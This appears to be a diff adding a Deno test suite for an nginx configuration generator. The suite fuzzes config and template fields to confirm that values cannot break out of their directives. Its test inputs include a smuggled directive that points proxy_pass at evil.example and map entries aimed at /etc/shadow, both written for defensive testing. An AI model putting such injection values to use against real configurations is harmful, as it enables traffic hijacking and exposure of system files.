@@ -0,0 +1,226 @@
+import { assert, assertEquals, assertThrows } from "https://deno.land/std@0.140.0/testing/asserts.ts";
+import { arg, args, commentText, quoteArgument, splitArguments, UnsafeValueError } from "../directives.ts";
+import { generateNginxConfig } from "../generator.ts";
+import { generateMainConfig } from "../workspace.ts";
+import { loadTemplates, validateTemplateParams } from "../templates.ts";
+import { validateConfig } from "../validator.ts";
+import { DirectiveNode, NginxParser } from "../parser.ts";
+import { NginxToJSON } from "../importer.ts";
+import { NginxConfig, Workspace } from "../types.ts";
+
+// Values that end a directive or block, open one, start a comment, quote,
+// escape or refer to a variable, unless they are written as one argument
+const FIXED = ["x;}", '"', "\\", "a\\", "#", "}", 'x" ; } server {', "'", '\\"', "a b", "}#", "${x}", "\\\\", "x\\'", "#;", "{", "';", "\"'\"", "a'b\"c"];
+const ALPHABET = [";", "{", "}", '"', "'", "\\", "#", " ", "$", "a", "/", "(", ")", "n", "t", "r", "\\n", '\\"', "=", ","];
+const CONTROL = ["a\nb", "x;\n}", "\r", "\t", "\x00", "a\x7f"];
+
+// The fixed values and a seeded run of random ones
+function fuzzValues(count = 40): string[] {
+    let seed = 42;
+    const random = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648;
+    const values = [...FIXED];
+    for (let i = 0; i < count; i++) {
+        const length = 1 + Math.floor(random() * 10);
+        values.push(Array.from({ length }, () => ALPHABET[Math.floor(random() * ALPHABET.length)]).join(""));
+    }
+    return values;
+}
+
+const parser = new NginxParser();
+
+// Directive and block structure without the arguments
+function skeleton(text: string): string {
+    const shape = (nodes: DirectiveNode[]): string => nodes.map(node => node.block ? `${node.name}{${shape(node.block)}}` : ".").join("");
+    return shape(parser.parse(text));
+}
+
+function words(nodes: DirectiveNode[]): string[] {
+    return nodes.flatMap(node => [node.name, ...node.args, ...words(node.block || [])]);
+}
+
+// deno-lint-ignore no-explicit-any
+function set(target: any, path: string, value: unknown): void {
+    const keys = path.split(".");
+    for (const key of keys.slice(0, -1)) {
+        target = target[key];
+    }
+    target[keys[keys.length - 1]] = value;
+}
+
+const base = (): NginxConfig => ({
+    domain: "example.com", serverName: "example.com www.example.com", port: 443, http2: true,
+    ssl: { certificate: "/c.pem", certificateKey: "/k.pem", forceRedirect: true, ciphers: ["A", "B"], dhParam: "/dh", sessionTimeout: "1d", protocols: ["TLSv1.3"], hsts: { enabled: true } },
+    acmeChallenge: { webroot: "/acme" },
+    hostRedirects: [{ serverNames: ["old.example.com"], target: "https://example.com" }],
+    security: { xFrameOptions: "DENY", referrerPolicy: "no-referrer", contentSecurityPolicy: ["default-src 'self'", "img-src *"] },
+    clientMaxBodySize: "10m", gzip: true, gzipTypes: ["text/plain"],
+    maps: { m: { source: "$host", default: "0", entries: [{ match: "a", value: "1" }] } },
+    geo: { g: { default: "0", entries: [{ address: "10.0.0.0/8", value: "1" }] } },
+    upstreams: { up: { zone: "z", servers: [{ address: "127.0.0.1:80", failTimeout: "10s" }], loadBalancing: { method: "hash", key: "$request_uri" } } },
+    rateLimitZones: { rl: { key: "$binary_remote_addr", rate: "1r/s" } },
+    cacheZones: { cz: { path: "/cache" } },
+    realIp: { from: ["10.0.0.1"], header: "X-Real-IP" },
+    access: [{ action: "allow", address: "10.0.0.0/8" }],
+    denyCategories: { g: ["1"] },
+    logFormats: { main: "$remote_addr $request" },
+    logging: { access: [{ path: "/var/log/a.log", format: "main", if: "$m" }], error: { path: "/var/log/e.log", level: "warn" } },
+    redirects: [{ source: "/old", target: "/new" }, { source: "^/r/(\\d+)$", target: "/n/$1", match: "regex" }, { source: "/p/", target: "/q/", match: "prefix", status: 308 }],
+    microservices: [{ path: "/svc/", upstream: "up", rewrite: "^/svc/(.*) /$1 break", methods: ["GET"], cors: { enabled: true, origins: ["https://a"] } }],
+    locations: [
+        { path: "/", root: "/srv", index: "index.html", try_files: "$uri $uri/ =404", extraDirectives: ["expires 1d"] },
+        { path: "~ \\.php$", php: { enabled: true, socketPath: "unix:/run/php.sock", extraParams: { SCRIPT_FILENAME: "$document_root$fastcgi_script_name" } },
+            auth: { basic: { realm: "R", userFile: "/etc/htpasswd" }, request: { uri: "/auth" }, allow: ["10.0.0.2"] } },
+        { path: "/api", proxyPass: "http://up", websocket: { enabled: true, timeout: 60 },
+            cache: { enabled: true, zone: "cz", valid: { "200": "10m" }, keys: ["$host$uri"], useStale: ["error"], bypass: ["$cookie_x"], lock: true, lockTimeout: "5s" },
+            cors: { enabled: true, origins: ["https://a"], methods: ["GET"], headers: ["X-A"] },
+            rateLimit: { zone: "rl", burstSize: 5 } }
+    ]
+} as NginxConfig);
+
+// Every config field that reaches the generator, and whether it is written
+// as one argument, a list split like nginx splits it, or a bare name
+const fields: [string, "arg" | "args" | "name"][] = [
+    ["serverName", "args"], ["ssl.certificate", "arg"], ["ssl.certificateKey", "arg"], ["ssl.ciphers.0", "arg"], ["ssl.dhParam", "arg"],
+    ["ssl.sessionTimeout", "arg"], ["acmeChallenge.webroot", "arg"], ["hostRedirects.0.serverNames.0", "args"], ["hostRedirects.0.target", "arg"],
+    ["security.xFrameOptions", "arg"], ["security.referrerPolicy", "arg"], ["security.contentSecurityPolicy.0", "arg"], ["clientMaxBodySize", "arg"],
+    ["gzipTypes.0", "args"], ["maps.m.source", "arg"], ["maps.m.default", "arg"], ["maps.m.entries.0.match", "name"], ["maps.m.entries.0.value", "arg"],
+    ["geo.g.entries.0.address", "name"], ["geo.g.entries.0.value", "arg"], ["upstreams.up.servers.0.address", "arg"], ["upstreams.up.servers.0.failTimeout", "arg"],
+    ["upstreams.up.zone", "arg"], ["upstreams.up.loadBalancing.key", "arg"], ["rateLimitZones.rl.key", "arg"], ["rateLimitZones.rl.rate", "arg"],
+    ["cacheZones.cz.path", "arg"], ["realIp.from.0", "arg"], ["realIp.header", "arg"], ["access.0.address", "arg"], ["denyCategories.g.0", "arg"],
+    ["logFormats.main", "arg"], ["logging.access.0.path", "arg"], ["logging.access.0.if", "arg"], ["logging.error.path", "arg"],
+    ["redirects.0.source", "arg"], ["redirects.0.target", "arg"], ["redirects.1.source", "arg"], ["redirects.1.target", "arg"],
+    ["redirects.2.source", "arg"], ["redirects.2.target", "arg"], ["microservices.0.path", "args"], ["microservices.0.upstream", "arg"],
+    ["microservices.0.rewrite", "args"], ["microservices.0.methods.0", "args"], ["microservices.0.cors.origins.0", "arg"],
+    ["locations.0.path", "args"], ["locations.0.root", "arg"], ["locations.0.index", "args"], ["locations.0.try_files", "args"],
+    ["locations.1.php.socketPath", "arg"], ["locations.1.php.extraParams.SCRIPT_FILENAME", "arg"], ["locations.1.auth.basic.realm", "arg"],
+    ["locations.1.auth.basic.userFile", "arg"], ["locations.1.auth.request.uri", "arg"], ["locations.1.auth.allow.0", "arg"],
+    ["locations.2.proxyPass", "arg"], ["locations.2.cache.zone", "arg"], ["locations.2.cache.valid.200", "arg"], ["locations.2.cache.keys.0", "args"],
+    ["locations.2.cache.useStale.0", "args"], ["locations.2.cache.bypass.0", "args"], ["locations.2.cache.lockTimeout", "arg"],
+    ["locations.2.cors.origins.0", "arg"], ["locations.2.cors.methods.0", "arg"], ["locations.2.cors.headers.0", "arg"], ["locations.2.rateLimit.zone", "arg"]
+];
+
+Deno.test("quoteArgument and arg write any value as a single argument", () => {
+    for (const value of fuzzValues(200)) {
+        const [node] = parser.parse(`x ${quoteArgument(value)};`);
+        assertEquals(node.args, [value], `quoteArgument(${JSON.stringify(value)})`);
+        assertEquals(arg(value), quoteArgument(value));
+    }
+    assertEquals(arg(""), '""');
+    assertEquals(arg(8080), "8080");
+});
+
+Deno.test("args splits values the way nginx does and keeps each part whole", () => {
+    for (const value of fuzzValues(200)) {
+        const [node] = parser.parse(`x ${args(value)};`);
+        assertEquals(node.args, splitArguments(value), `args(${JSON.stringify(value)})`);
+    }
+    assertEquals(args("a 'b c'"), 'a "b c"');
+    assertEquals(args(["GET", "POST { proxy_pass http://evil.example; } #"]), 'GET POST "{" proxy_pass "http://evil.example;" "}" "#"');
+});
+
+Deno.test("control characters are rejected", () => {
+    for (const value of CONTROL) {
+        assertThrows(() => arg(value), UnsafeValueError);
+        assertThrows(() => args(["a", value]), UnsafeValueError);
+        assertThrows(() => commentText(value), UnsafeValueError);
+    }
+});
+
+Deno.test("no config field can end its directive or block early", () => {
+    const baseline = skeleton(generateNginxConfig(base()));
+    for (const [path, mode] of fields) {
+        for (const value of fuzzValues()) {
+            const config = base();
+            set(config, path, value);
+            const text = generateNginxConfig(config);
+            assertEquals(skeleton(text), baseline, `${path} = ${JSON.stringify(value)}`);
+            const written = words(parser.parse(text));
+            const expected = mode === "args" ? splitArguments(value) : [value];
+            assert(expected.every(part => written.some(word => word.includes(part))), `${path} = ${JSON.stringify(value)} is not written as it is`);
+        }
+        for (const value of CONTROL) {
+            const config = base();
+            set(config, path, value);
+            assertThrows(() => generateNginxConfig(config), UnsafeValueError, undefined, `${path} = ${JSON.stringify(value)}`);
+        }
+    }
+});
+
+Deno.test("no field of the main context can end its directive or block early", () => {
+    const workspace = (value: string) => ({
+        main: { user: value, pid: value, errorLog: value },
+        http: { accessLog: value, resolvers: [value] },
+        sites: []
+    } as unknown as Workspace);
+    const baseline = skeleton(generateMainConfig(workspace("x")));
+    for (const value of fuzzValues()) {
+        assertEquals(skeleton(generateMainConfig(workspace(value))), baseline, JSON.stringify(value));
+    }
+});
+
+// Parameters of the built-in templates and the example JSON template, and
+// the string fields among them
+const templateCases: { name: string; params: Record<string, unknown>; fields: string[] }[] = [
+    { name: "static", params: { domain: "example.com", rootPath: "/srv", sslEnabled: true }, fields: ["domain", "rootPath"] },
+    { name: "spa", params: { domain: "example.com", rootPath: "/srv", apiUrl: "http://127.0.0.1:3000", sslEnabled: true }, fields: ["domain", "rootPath", "apiUrl"] },
+    { name: "wordpress", params: { domain: "example.com", rootPath: "/srv", phpVersion: "8.2", sslEnabled: true }, fields: ["domain", "rootPath", "phpVersion"] },
+    {
+        name: "microservices",
+        params: { domain: "example.com", sslEnabled: true, services: [{ name: "users", port: 3001, path: "/users", methods: ["GET", "POST"], corsEnabled: true }] },
+        fields: ["domain", "services.0.name", "services.0.path", "services.0.methods.0"]
+    },
+    { name: "reverse-proxy", params: { domain: "example.com", backend: "http://127.0.0.1:3000", maxBodySize: "10M", websocket: true }, fields: ["domain", "backend", "maxBodySize"] }
+];
+
+Deno.test("template parameters cannot end a directive or block early", async () => {
+    const templates = await loadTemplates(new URL("../examples/templates", import.meta.url).pathname);
+    for (const { name, params, fields } of templateCases) {
+        const template = templates[name];
+        const render = (values: Record<string, unknown>) => generateNginxConfig(template.render(validateTemplateParams(template, values).params));
+        const baseline = skeleton(render(params));
+        for (const field of fields) {
+            for (const value of fuzzValues()) {
+                const values = structuredClone(params);
+                set(values, field, value);
+                if (validateTemplateParams(template, values).errors.length > 0) {
+                    continue;
+                }
+                assertEquals(skeleton(render(values)), baseline, `${name}: ${field} = ${JSON.stringify(value)}`);
+            }
+            for (const value of CONTROL) {
+                const values = structuredClone(params);
+                set(values, field, value);
+                if (validateTemplateParams(template, values).errors.length === 0) {
+                    assertThrows(() => render(values), UnsafeValueError, undefined, `${name}: ${field} = ${JSON.stringify(value)}`);
+                }
+            }
+        }
+    }
+});
+
+Deno.test("microservice methods are limited to HTTP methods and written as arguments", async () => {
+    const { microservices } = await loadTemplates();
+    const methods = ["POST { proxy_pass http://evil.example; } #"];
+    const params = { domain: "example.com", services: [{ name: "users", port: 3001, path: "/users", methods }] };
+    assertEquals(validateTemplateParams(microservices, params).errors.map(error => error.field), ["templateParams.services[0].methods[0]"]);
+
+    // Rendered without the schema check, the method stays one argument
+    const config = microservices.render({ ...params, sslEnabled: false });
+    const text = generateNginxConfig(config);
+    const location = parser.parse(text)[1].block!.find(node => node.name === "location")!;
+    assertEquals(location.block!.filter(node => node.name === "proxy_pass").map(node => node.args), [["http://users"]]);
+    assertEquals(location.block!.find(node => node.name === "limit_except")!.args, splitArguments(methods[0]).map(String));
+    assertEquals(validateConfig(config, {}, "none").map(error => error.field), ["locations[0].extraDirectives"]);
+});
+
+Deno.test("map matches spelled like map parameters stay map entries", () => {
+    const entries = ["include", "default", "hostnames", "volatile", "\\include", "\\x", "~^a"].map(match => ({ match, value: "/etc/shadow" }));
+    const config = { domain: "example.com", serverName: "example.com", port: 80, locations: [{ path: "/", root: "/srv" }], maps: { m: { source: "$host", default: "0", entries } } } as NginxConfig;
+    const text = generateNginxConfig(config);
+    const map = parser.parse(text).find(node => node.name === "map")!;
+    assertEquals(map.block!.map(node => node.name), ["default", "\\include", "\\default", "\\hostnames", "\\volatile", "\\\\include", "\\\\x", "~^a"]);
+    assertEquals(validateConfig(config, {}, "none"), []);
+
+    const imported = new NginxToJSON().convert(text) as Record<string, unknown>;
+    assertEquals((imported.maps as NginxConfig["maps"])!.m, { source: "$host", default: "0", entries });
+});